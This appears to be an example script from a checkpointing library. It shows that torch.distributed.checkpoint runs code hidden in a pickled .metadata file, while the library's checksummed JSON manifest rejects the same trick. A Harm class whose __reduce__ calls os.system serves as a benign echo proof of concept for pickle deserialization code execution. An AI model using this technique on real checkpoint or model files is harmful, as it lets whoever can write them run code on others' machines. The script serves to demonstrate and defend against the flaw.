"""torch.distributed.checkpoint executes code that its marker contains.

`.metadata` is a pickle: anyone who can write into a checkpoint folder can run code in every job
that loads from it. Ours is JSON that is checked before it is used.

    $ python examples/comparisons/pickled_marker.py
    DCP: a shell, by loading a checkpoint
    DCP: then CheckpointException
    ours: damaged checkpoint: step-000000001.g0.aa/manifest.json: its checksum does not match its
    content
"""

import logging
import os
import pickle
import tempfile

import torch
from torch.distributed.checkpoint.api import CheckpointException
from torch.distributed.checkpoint.state_dict_loader import load
from torch.distributed.checkpoint.state_dict_saver import save

import checkpoints


class Harm:
    def __reduce__(self):
        return (os.system, ("echo 'DCP: a shell, by loading a checkpoint'",))


state = {"weight": torch.ones(4)}
with tempfile.TemporaryDirectory() as folder:
    save(state, checkpoint_id=f"{folder}/dcp", no_dist=True)
    with open(f"{folder}/dcp/.metadata", "wb") as file:
        pickle.dump(Harm(), file)
    logging.disable(logging.ERROR)
    try:
        load(dict(state), checkpoint_id=f"{folder}/dcp", no_dist=True)
    except CheckpointException as error:
        print(f"DCP: then {type(error).__name__}")

    name = checkpoints.save(f"{folder}/ours", state, step=1, nonce="aa").name
    with open(f"{folder}/ours/{name}/manifest.json", "wb") as file:
        pickle.dump(Harm(), file)
    try:
        checkpoints.load(f"{folder}/ours", name)
    except checkpoints.CorruptCheckpoint as error:
        print(f"ours: {error.message}")
